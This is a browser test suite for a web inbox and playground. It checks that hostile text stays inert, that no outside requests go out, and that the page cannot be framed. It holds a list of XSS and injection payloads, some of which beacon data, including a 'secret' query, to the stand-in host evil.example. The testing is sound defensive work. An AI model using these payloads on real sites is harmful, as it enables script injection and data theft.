from __future__ import annotations

from typing import Any

import pytest

from .conftest import Shop, signed_in_page

pytestmark = pytest.mark.browser

BEACON = "http://evil.example"
PAYLOADS = (
    "<script>window.pwn=1</script>",
    "<img src=x onerror=window.pwn=2>",
    f"<img src={BEACON}/a.png>",
    f"![x]({BEACON}/p.png?d=secret)",
    "<svg onload=window.pwn=3></svg>",
    "<iframe srcdoc='<script>parent.pwn=4</script>'></iframe>",
    "[click](javascript:window.pwn=5)",
    "<a href='javascript:window.pwn=6'>click</a>",
    "${window.pwn=7}",
    "{{value}}${eval(String.fromCharCode(119,105,110,100,111,119,46,112,119,110,61,56))}",
    "\\u{",
    "`+(window.pwn=9)+`",
    "</textarea><script>window.pwn=10</script>",
    f"<div style='position:fixed;inset:0;background:url({BEACON}/o.png)'>Approve</div>",
    f"<form action='{BEACON}/f'><button>Approve</button></form>",
    f"<style>*{{background:url({BEACON}/s.png)!important}}</style>",
    "'\"><input autofocus onfocus=window.pwn=11>",
    "<details open ontoggle=window.pwn=12><summary>x</summary></details>",
    "__proto__",
)


async def test_no_text_of_agent_or_customer_runs_or_reaches_out_anywhere(shop: Shop, browser: Any) -> None:
    for payload in PAYLOADS:
        await shop.ask("note", {"text": payload, "extra": {payload: [payload]}}, say=payload)
    asked: list[str] = []
    violations: list[str] = []
    async with signed_in_page(shop, browser, "lin") as page:
        page.on("request", lambda request: asked.append(request.url))
        page.on("console", lambda message: violations.append(message.text) if "Content Security Policy" in message.text else None)
        page.on("pageerror", lambda error: violations.append(str(error)))
        await page.reload()
        for number, payload in enumerate(PAYLOADS, start=1):
            card = page.locator(".rc-card", has=page.locator(f"text=RQ-{number}").first)
            await card.wait_for()
            assert payload in await page.inner_text(".rc-facts")
            await page.keyboard.press("e")
            await page.wait_for_selector(".rc-form")
            assert await page.get_by_label("Text", exact=True).input_value() == payload
            await page.keyboard.press("Escape")
            assert await page.locator(".rc-card :is(script, img, svg, iframe, style)").count() == 0
            await page.keyboard.press("r")
            await page.get_by_label("Tell the agent more").fill(payload)
            await page.get_by_role("button", name="Suspicious").click()
        await page.wait_for_selector("text=Nothing waits for you")
        for path in ("/inbox", "/history"):
            await page.goto(page.address + path)
            await page.wait_for_selector("h2")
            await page.wait_for_timeout(700)
            assert await page.evaluate("window.pwn") is None
        assert PAYLOADS[0] in await page.inner_text("body")
        assert await page.evaluate("window.pwn") is None
        assert await page.evaluate("({}).pwn") is None
        assert [url for url in asked if not url.startswith(page.address)] == []
        assert violations == []


async def test_the_playground_and_the_inbox_show_hostile_text_as_text(shop: Shop, browser: Any) -> None:
    asked: list[str] = []
    async with signed_in_page(shop, browser, "ada", path="/playground") as page:
        page.on("request", lambda request: asked.append(request.url))
        for payload in PAYLOADS[:6]:
            await page.get_by_label("Message").fill(payload)
            await page.get_by_role("button", name="Send").click()
            await page.get_by_role("button", name="New conversation").wait_for()
            await page.wait_for_selector(f"li.cv-requester >> text={payload[:8]}")
        await page.goto(page.address + "/inbox")
        await page.wait_for_selector("table")
        assert await page.evaluate("window.pwn") is None
        assert [url for url in asked if not url.startswith(page.address)] == []


async def test_the_page_cannot_be_framed(shop: Shop, browser: Any) -> None:
    async with signed_in_page(shop, browser, "ada") as page:
        other = await page.context.new_page()
        await other.set_content(f"<iframe src='{page.address}/'></iframe>")
        await other.wait_for_timeout(1500)
        for frame in other.frames[1:]:
            assert "gradio" not in await frame.content()
